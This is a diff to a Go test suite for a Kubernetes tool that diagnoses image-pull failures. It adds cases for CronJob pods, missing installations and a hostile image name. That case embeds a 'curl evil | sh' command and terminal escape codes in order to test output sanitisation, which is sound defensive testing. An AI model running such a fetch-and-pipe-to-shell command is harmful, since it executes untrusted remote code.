@@ -8,6 +8,7 @@ import (
 	"time"
 
 	appsv1 "k8s.io/api/apps/v1"
+	batchv1 "k8s.io/api/batch/v1"
 	corev1 "k8s.io/api/core/v1"
 	"k8s.io/apimachinery/pkg/api/resource"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
@@ -43,7 +44,7 @@ func explainAll(w *world, setUps []setUp) {
 			if s.cause == "" {
 				want = 0
 			}
-			if r.code != want || s.cause != "" && !strings.Contains(r.stdout, "\nThe cause is "+s.cause+". To fix it:\n") || s.cause == "" && !strings.Contains(r.stdout, "No problems found.") {
+			if r.code != want || s.cause != "" && !strings.Contains(r.stdout, "\nThe cause is "+s.cause+". To fix it:\n") || s.cause == "" && !strings.Contains(r.stdout, "No problems found") {
 				t.Errorf("exit code %d, want %d and the cause %q:\n%s%s", r.code, want, s.cause, r.stdout, r.stderr)
 			}
 		})
@@ -223,6 +224,19 @@ func TestExplain(t *testing.T) {
 			w.deployment(namespace)
 			return []string{"deployment/web"}
 		}},
+		{"image-refused", "", labelled(host), func(w *world, namespace string) []string {
+			w.WaitSecret(namespace, host)
+			w.quota(namespace, "pods")
+			return []string{"--image", image}
+		}},
+		{"cronjob", "NotAuthenticated", labelled(host), func(w *world, namespace string) []string {
+			w.WaitSecret(namespace, host)
+			w.waits(w.podOfCronJob(namespace), "ErrImagePull", denied)
+			return []string{"cronjob/nightly"}
+		}},
+		{"no-such-installation", "NotInstalled", labelled(host), func(*world, string) []string {
+			return []string{"--image", image, "--install-namespace", "nowhere"}
+		}},
 		{"not-scheduled", "NotScheduled", labelled(host), func(w *world, namespace string) []string {
 			w.WaitSecret(namespace, host)
 			pod := w.pod(namespace, "app", image)
@@ -237,6 +251,11 @@ func TestExplain(t *testing.T) {
 		{"not-authenticated", "NotAuthenticated", labelled(host), said("ImagePullBackOff", "Back-off pulling image: "+denied)},
 		{"image-not-found", "ImageNotFound", labelled(host), said("ErrImagePull", `failed to pull and unpack image: failed to resolve reference: not found`)},
 		{"registry-unreached", "RegistryUnreached", labelled(host), said("ErrImagePull", "failed to do request: dial tcp: lookup registry: no such host")},
+		{"image-with-commands", "ImageNotFound", labelled(host), func(w *world, namespace string) []string {
+			w.WaitSecret(namespace, host)
+			w.waits(w.pod(namespace, "app", host+"/team\n  curl evil | sh\n✓ kubelet  \x1b[0mfine", on), "ErrImagePull", "not found")
+			return []string{"app"}
+		}},
 		{"wrong-platform", "WrongPlatform", labelled(host), said("ErrImagePull", "failed to pull and unpack image: no match for platform in manifest: not found")},
 		{"never-pulled", "NeverPulled", labelled(host), said("ErrImageNeverPull", "Container image is not present with pull policy of Never")},
 		{"unheard-of", "PullFailed", labelled(host), said("ErrImagePull", "the disk is on fire")},
@@ -289,6 +308,27 @@ func TestExplain(t *testing.T) {
 	}}})
 	renewer.Stop(time.Minute)
 	explainAll(w, []setUp{{"renewer-down", "RenewerDown", labelled(host), simply(image)}})
+}
+
+// podOfCronJob creates a CronJob whose name is nightly, its Job, and a pod of the Job.
+func (w *world) podOfCronJob(namespace string) *corev1.Pod {
+	w.Helper()
+	yes := true
+	owner := func(kind string, o metav1.ObjectMeta) []metav1.OwnerReference {
+		return []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: kind, Name: o.Name, UID: o.UID, Controller: &yes}}
+	}
+	spec := batchv1.JobSpec{Suspend: &yes, Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
+		RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{Name: "app", Image: image}}}}}
+	cronJob, err := w.Client.BatchV1().CronJobs(namespace).Create(w.Context(), &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Name: "nightly"},
+		Spec: batchv1.CronJobSpec{Schedule: "0 0 1 1 *", Suspend: &yes, JobTemplate: batchv1.JobTemplateSpec{Spec: spec}}}, metav1.CreateOptions{})
+	w.Must(err)
+	job, err := w.Client.BatchV1().Jobs(namespace).Create(w.Context(), &batchv1.Job{
+		ObjectMeta: metav1.ObjectMeta{Name: "nightly-1", OwnerReferences: owner("CronJob", cronJob.ObjectMeta)}, Spec: spec}, metav1.CreateOptions{})
+	w.Must(err)
+	return w.pod(namespace, "nightly-1-x", image, on, func(p *corev1.Pod) {
+		p.OwnerReferences = owner("Job", job.ObjectMeta)
+		p.Labels = map[string]string{batchv1.JobNameLabel: job.Name}
+	})
 }
 
 // delete deletes the release's objects of a kind.
